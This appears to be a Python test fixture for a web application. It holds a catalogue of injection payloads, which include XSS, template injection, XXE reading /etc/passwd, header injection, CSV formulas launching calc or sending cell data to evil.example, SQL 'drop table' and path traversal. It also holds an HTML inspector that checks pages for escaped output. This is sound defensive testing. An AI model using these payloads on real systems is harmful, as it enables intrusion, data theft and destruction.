"""Injection payloads for every test: scripts, markup, formulas, SQL, paths, headers and misleading characters.

A script that runs calls ``alert``; a template expression that is evaluated yields ``EVALUATED``; a resource is loaded
from ``FOREIGN_HOST``. Every field takes ``ACCEPTED`` as text and refuses ``REFUSED``.
"""

import re
import unicodedata
from html.parser import HTMLParser

FOREIGN_HOST = "evil.example"
EVALUATED = "67092481"
"""8191 times 8191, which occurs nowhere else."""

ACCEPTED = {
    "script": "<script>alert(1)</script>",
    "the end of a script": "</script><script>alert(1)</script>",
    "the end of a title": "</title></textarea></style></svg><script>alert(1)</script>",
    "an image": "<img src=x onerror=alert(1)>",
    "an image from another host": f"<img src=//{FOREIGN_HOST}/a.png><link rel=stylesheet href=//{FOREIGN_HOST}/a.css>",
    "svg": "<svg/onload=alert(1)><use href=data:image/svg+xml,x />",
    "a frame": f'<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=//{FOREIGN_HOST}/a></object>',
    "a base": f"<base href=//{FOREIGN_HOST}/><meta http-equiv=refresh content=0;url=//{FOREIGN_HOST}/>",
    "a form": f"<form action=//{FOREIGN_HOST}/><button autofocus onfocus=alert(1)>",
    "an attribute": '" autofocus onfocus="alert(1)" x="',
    "an attribute in single quotes": "' autofocus onfocus='alert(1)' x='",
    "an attribute without quotes": "x onmouseover=alert(1) style=background:url(//evil.example/a)",
    "a template literal": "${alert(1)}`${alert(1)}`",
    "an expression": "{{8191*8191}}${8191*8191}#{8191*8191}<%= 8191*8191 %>",
    "globals": "{{ self.__init__.__globals__ }}{{ config }}{{ words }}",
    "a statement": "{% for i in range(9) %}x{% endfor %}{% raw %}",
    "a template comment": "{# x #}{#",
    "a comment": "<!-- <script>",
    "a javascript URL": "javascript:alert(1)//",
    "markdown": f"[x](javascript:alert(1)) ![x](//{FOREIGN_HOST}/a.png)",
    "the end of CDATA": "]]><script>alert(1)</script><![CDATA[",
    "the end of CDATA without markup": "a ]]> b",
    "an injected element": f"]]> </SimpleData><NetworkLink><href>//{FOREIGN_HOST}/a</href></NetworkLink> &e; &A1;",
    "character references": "&lt;img src=x onerror=alert(1)&gt;&#60;script&#62;alert(1)&#60;/script&#62;",
    "an entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "escapes": r"\u003cscript\u003ealert(1)\x3c/script\x3e \074script\076",
    "a format": "{0.__class__} {name} {n} %s %(name)s $[name] $[description]",
    "line separators": "a\u2028alert(1)//\u2029b\u0085c",
    "an injected header": "x\r\nSet-Cookie: stolen=1\r\n\r\n<script>alert(1)</script>",
    "a formula": f'=HYPERLINK("http://{FOREIGN_HOST}/?"&A1;"x")',
    "a formula with plus": "+cmd|' /C calc'!A0",
    "a formula with minus": "-2+3+cmd|' /C calc'!A0",
    "a formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a formula in full width": '＝HYPERLINK("x")',
    "a formula behind a separator": "x;=1+1\t=1+1\n=1+1",
    "sql": "'; drop table app.works; --",
    "a path": "../../../../etc/passwd",
    "quotes": "\"'`\\",
    "combining marks": unicodedata.normalize("NFC", "a" + "\u0323\u0301" * 40),
}
"""Texts that are stored and shown as they are."""

REFUSED = {
    "nul": "a\0b",
    "an escape sequence": "\x1b[2J\x1b]0;x\x07",
    "a C1 control": "a\x9bb",
    "right to left override": "a\u202eb",
    "an isolate": "a\u2066b",
    "an arabic letter mark": "a\u061cb",
    "a zero-width space": "a\u200bb",
    "a byte order mark": "\ufeffa",
    "a lone surrogate": "a\ud800b",
    "noncharacters": "a\ufffeb\uffff",
    "tags": "a\U000e0041\U000e0042b",
}
"""Invisible or control characters that mislead a reader or break XML: refused with the name of the field."""

ALL_ACCEPTED = " ".join(text for name, text in ACCEPTED.items() if name != "combining marks")
"""All payloads in one text, for a field that a page shows once."""

SHORT_PAYLOAD = "\"'`><img src=x onerror=alert(1)></script><script>alert(1)</script><!--{{8191*8191}}${alert(1)}{% x"
"""The most dangerous payloads in one text, for short fields."""

MARKUP = [text for text in ACCEPTED.values() if "<" in text]


class _PageInspector(HTMLParser):
    """Parse a page as a browser does; collect its texts, and what could run code or load a resource."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.texts: list[str] = []
        self.current_tag = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.current_tag = tag
        values = {name: value or "" for name, value in attrs}
        if tag == "script" and values.get("type") != "application/json":
            if not re.fullmatch(r"/(static/[\w./-]+\.js|map\.js)", values.get("src", "")):
                self.faults.append(f"script {values}")
            self.current_tag = "code"
        if tag in ("iframe", "object", "embed", "base", "frame", "applet"):
            self.faults.append(tag)
        for name, value in values.items():
            if name.startswith("on") or name in ("srcdoc", "http-equiv", "formaction"):
                self.faults.append(f"{tag} {name}={value}")
            if name in ("href", "src", "action", "data", "poster", "xlink:href") and not re.match(
                r"(/(?!/)|#|\?|http://localhost:\d+/|https?://www\.opengis\.net/|https?://www\.openstreetmap\.org/)",
                value,
            ):
                self.faults.append(f"{tag} {name}={value}")
            self.texts.append(value)

    def handle_endtag(self, tag: str) -> None:
        self.current_tag = ""

    def handle_data(self, data: str) -> None:
        if self.current_tag == "code" and data.strip():
            self.faults.append(f"code {data[:60]}")
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data[:60]}")


def inspect_page(html: str) -> tuple[list[str], str]:
    """The faults of a page (what could run code, load a resource or escape), and its texts with attribute values."""
    inspector = _PageInspector()
    inspector.feed(html)
    inspector.close()
    faults = inspector.faults + [f"unescaped: {text}" for text in MARKUP if text in html]
    if EVALUATED in html:
        faults.append("evaluated")
    return faults, "\n".join(inspector.texts)


def fit_payload(text: str, max_length: int) -> str:
    """``text`` if it fits, else as much of ``SHORT_PAYLOAD`` as fits."""
    return text if len(text) <= max_length else SHORT_PAYLOAD[:max_length]
